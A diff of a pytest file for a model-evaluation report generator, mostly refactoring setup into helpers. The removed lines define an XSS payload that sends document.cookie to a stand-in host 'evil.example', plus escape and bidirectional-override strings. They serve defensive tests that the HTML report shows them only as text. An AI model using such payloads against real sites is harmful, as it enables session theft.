@@ -3,13 +3,11 @@
 import json
 import re
 import shutil
-import subprocess
-import sys
 
 import pytest
 import yaml
-from helpers.page import Page
-from helpers.synthetic import measure_fully, pages, write
+from helpers.page import HOSTILE, PAYLOAD, Page, safe_page
+from helpers.synthetic import alter, change, measure_fully, measure_states, pages, write
 
 from opdcl.results import plots, report
 from opdcl.results.format import unbroken
@@ -20,30 +18,12 @@ from opdcl.results.tables import MISSING
 from opdcl.results.verdict import split
 from opdcl.sanitize import harmless
 
-PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
-HOSTILE = (
-    PAYLOAD
-    + "\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 ```\n# not a heading | `tick` ![x](https://evil.example/x.png)"
-)
-
 
 def test_without_measurable_forgetting_no_file_prints_an_r(run):
-    measure_fully(run, "tuned", "instructions", "retention", set(range(30)))
+    measure_fully(run, "tuned", "instructions", 30)
     files = pages(run)
     assert not [name for name, page in files.items() if "R = " in page]
     assert "a drop from base to tuned of 5.0 points" in files["report.md"]
-
-
-def test_a_changed_base_and_a_foreign_adapter_get_notes(run):
-    manifest = json.loads(run.manifest.read_text())
-    manifest["base"]["fingerprint_after"] = "deadbeef"
-    manifest["adapters"]["recovered"]["sha256"] = "retrained"
-    write(run.manifest, manifest)
-    html = pages(run)["report.html"]
-    assert "The base weights changed during the run" in html
-    assert "recovered was measured with another adapter" in html
-    assert "CHANGED to deadbeef" in html
-    assert "identical before and after" not in html
 
 
 def test_html_shows_verdict_scores_plots_cost_and_how_to_reproduce_the_run(trained):
@@ -113,8 +93,7 @@ def test_the_bars_have_the_scores_of_the_summary(run):
 
 
 def test_low_scores_get_a_shorter_axis_that_is_named(run):
-    for state, passes in (("base", 40), ("tuned", 4), ("recovered", 36)):
-        measure_fully(run, state, "instructions", "retention", set(range(passes)), n=400)
+    measure_states(run, "instructions", (40, 4, 36), 400)
     html = pages(run)["report.html"]
     assert "the bars end at 25.0 %" in html
     assert '<rect class="base" width="40.0%"' in html
@@ -126,15 +105,17 @@ def test_a_note_is_no_fault(run):
     assert summarise(run)["notes"]
     assert 'aria-label="Notes"' in html
     assert 'class="faults"' not in html
-    manifest = json.loads(run.manifest.read_text())
-    manifest["base"]["fingerprint_after"] = "deadbeef"
-    write(run.manifest, manifest)
+    alter(run.manifest, base={"fingerprint_after": "deadbeef"})
+    alter(run.manifest, adapters={"recovered": {"sha256": "retrained"}})
     summary = summarise(run)
     assert [f for f in summary["faults"] if f in summary["notes"]] == summary["faults"] != []
     files = pages(run)
     faults = files["report.html"].split('class="faults"')[1].split("</section>")[0]
     assert "The base weights changed" in faults
+    assert "recovered was measured with another adapter" in faults
     assert files["report.html"].count("The base weights changed") == 1
+    assert "CHANGED to deadbeef" in files["report.html"]
+    assert "identical before and after" not in files["report.html"]
     assert all("> **Fault:** The base weights" in files[name] for name in ("report.md", "README.md"))
 
 
@@ -156,14 +137,9 @@ def test_on_a_phone_every_cell_names_its_column(trained):
 
 
 def test_the_top_says_which_model_which_rows_and_which_day(run):
-    manifest = json.loads(run.manifest.read_text())
-    manifest["base"]["parameters"] = 134_515_008
-    write(run.manifest, manifest)
-    config = json.loads(run.config.read_text())
-    config["workflow"]["finetune"] = {"data": "/home/me/secret/rows.jsonl", "seed": 11}
-    write(run.config, config)
-    stage = run.stage(1, "finetune")
-    write(stage.record, json.loads(stage.record.read_text()) | {"rows": 1840})
+    alter(run.manifest, base={"parameters": 134_515_008})
+    change(run, "finetune", data="/home/me/secret/rows.jsonl")
+    alter(run.stage(1, "finetune").record, rows=1840)
     top = Page(pages(run)["report.html"].split("<main>")[0].split("</style>")[1]).text
     for expected in ("SmolLM2-135M-Instruct, 135 M parameters", "rows.jsonl, 1,840 rows", "2 January 2026"):
         assert expected in top
@@ -173,16 +149,12 @@ def test_the_top_says_which_model_which_rows_and_which_day(run):
 
 def test_scores_of_the_embedded_model_say_that_it_was_quantized(run):
     assert all("quantized to 4 bits" in page for page in pages(run).values())
-    manifest = json.loads(run.manifest.read_text())
-    manifest["base"]["id"] = "someone/other-model"
-    write(run.manifest, manifest)
+    alter(run.manifest, base={"id": "someone/other-model"})
     assert not [name for name, page in pages(run).items() if "quantized" in page]
 
 
 def test_a_run_on_a_quantized_base_says_that_it_was_measured_and_taught(run):
-    config = json.loads(run.config.read_text())
-    config["workflow"]["model"] = config["workflow"].get("model", {}) | {"quantization": "4bit"}
-    write(run.config, config)
+    change(run, "model", quantization="4bit")
     for page in pages(run).values():
         assert "quantized the linear layers of" in page
         assert "where base taught, it was the teacher" in page
@@ -197,44 +169,15 @@ def test_metrics_have_plain_names_and_their_keys_only_in_small_print(run):
 
 
 def test_html_loads_nothing_from_outside_and_runs_no_script(trained):
-    measure_fully(
-        trained, "base", "instructions", "retention", set(range(32)), response=HOSTILE, prompt=HOSTILE
-    )
-    measure_fully(
-        trained, "tuned", "instructions", "retention", set(range(8)), response=HOSTILE, prompt=HOSTILE
-    )
-    measure_fully(
-        trained, "recovered", "instructions", "retention", set(range(28)), response=HOSTILE, prompt=HOSTILE
-    )
-    html = pages(trained)["report.html"]
-    page = Page(html)
-    assert not {"script", "link", "iframe", "object", "embed", "base", "form", "img", "a"} & set(page.tags)
-    assert not [
-        name for name, _ in page.attributes if name.startswith("on") or name in ("src", "action", "srcset")
-    ]
-    assert all(value.startswith("#") for name, value in page.attributes if "href" in name)
+    measure_states(trained, "instructions", (32, 8, 28), response=HOSTILE, prompt=HOSTILE)
+    page = safe_page(pages(trained)["report.html"])
     assert not [value for name, value in page.attributes if "http:" in value or "https:" in value]
-    assert "url(http" not in html
-    assert "@import" not in html
-    assert (
-        "content",
-        "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'",
-    ) in (page.attributes)
     assert PAYLOAD in page.text  # shown, as text
 
 
-def test_ids_in_the_page_are_unique_and_every_reference_finds_its_target(trained):
-    html = pages(trained)["report.html"]
-    ids = re.findall(r'\bid="([^"]+)"', html)
-    assert len(ids) == len(set(ids))
-    assert set(re.findall(r'(?:href="#|url\(#)([^")]+)', html)) <= set(ids)
-
-
 def test_names_from_outside_cannot_break_a_page(run):
-    config = json.loads(run.config.read_text())
-    config["workflow"]["name"] = HOSTILE
-    config["workflow"]["eval"]["control"] = [HOSTILE.replace("/", "")[:60]]
-    write(run.config, config)
+    alter(run.config, workflow={"name": HOSTILE})
+    change(run, "eval", control=[HOSTILE.replace("/", "")[:60]])
     for name, text in pages(run).items():
         assert "\x1b" not in text
         assert "\u202e" not in text
@@ -249,15 +192,7 @@ def test_names_from_outside_cannot_break_a_page(run):
 
 
 def test_an_answer_cannot_close_its_markdown_block(run):
-    for state, passes in (("base", 32), ("tuned", 8), ("recovered", 28)):
-        measure_fully(
-            run,
-            state,
-            "instructions",
-            "retention",
-            set(range(passes)),
-            response="```\n# Recovered: 100 %\n````\n<b>",
-        )
+    measure_states(run, "instructions", (32, 8, 28), response="```\n# Recovered: 100 %\n````\n<b>")
     text = pages(run)["report.md"]
     outside, fence = [], None
     for line in text.splitlines():
@@ -307,8 +242,7 @@ def test_the_first_sample_is_the_shortest_readable_one(run):
             "ended": i != 12,
         }
 
-    for state, passes in (("base", 32), ("tuned", 8), ("recovered", 28)):
-        measure_fully(run, state, "instructions", "retention", set(range(passes)), fields=fields)
+    measure_states(run, "instructions", (32, 8, 28), fields=fields)
     numbers = [s["number"] for s in pick_samples(load_suites(run)[0])[0]["samples"]]
     assert numbers[:2] == [11, 10]
     assert not {8, 9, 12} & set(numbers)
@@ -323,7 +257,7 @@ def test_a_prompt_is_on_the_page_once(run):
 
 
 def test_long_answers_are_cut_and_say_so(run):
-    measure_fully(run, "tuned", "instructions", "retention", set(range(8)), response="word " * 5000)
+    measure_fully(run, "tuned", "instructions", 8, response="word " * 5000)
     html = pages(run)["report.html"]
     assert "more characters)" in html
     assert "word " * 500 not in html
@@ -340,6 +274,7 @@ def test_a_run_with_only_a_finetune_has_a_report(trained):
 
 def test_an_empty_run_has_a_report(empty):
     assert all(text.strip() for text in pages(empty).values())
+    assert "Not measured yet" in report.pull_request(empty, summarise(empty))
 
 
 def test_the_model_card_has_front_matter_that_a_hub_can_read(run):
@@ -356,9 +291,7 @@ def test_the_model_card_has_front_matter_that_a_hub_can_read(run):
 
 
 def test_a_local_base_model_does_not_put_its_path_into_the_card(run):
-    manifest = json.loads(run.manifest.read_text())
-    manifest["base"] |= {"id": "/home/someone/secret/my-model", "license": None}
-    write(run.manifest, manifest)
+    alter(run.manifest, base={"id": "/home/someone/secret/my-model", "license": None})
     front = yaml.safe_load(pages(run)["README.md"].split("---\n")[1])
     assert front["base_model"] == "my-model"
     assert "license" not in front
@@ -380,19 +313,6 @@ def test_a_step_repeated_after_a_resume_counts_once(trained):
 def test_a_plot_needs_two_points():
     assert plots.finetune_loss([{"step": 1, "loss": 2.0}]) is None
     assert plots.recovery_kl([], {"general": "base", "domain": "tuned"}) is None
-
-
-def test_importing_the_report_loads_neither_a_model_library_nor_a_plotting_one():
-    heavy = ["torch", "transformers", "trl", "peft", "datasets", "lm_eval", "matplotlib", "jinja2", "scipy"]
-    code = f"import sys, opdcl.results.report; print([m for m in {heavy} if m in sys.modules])"
-    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
-    assert done.stdout.strip() == "[]"
-
-
-def test_a_given_summary_is_the_one_that_is_written(run):
-    summary = summarise(run)
-    report.write(run, summary | {"verdict": "Computed elsewhere."})
-    assert "Computed elsewhere." in (run.path / "report.md").read_text()
 
 
 @pytest.mark.parametrize(
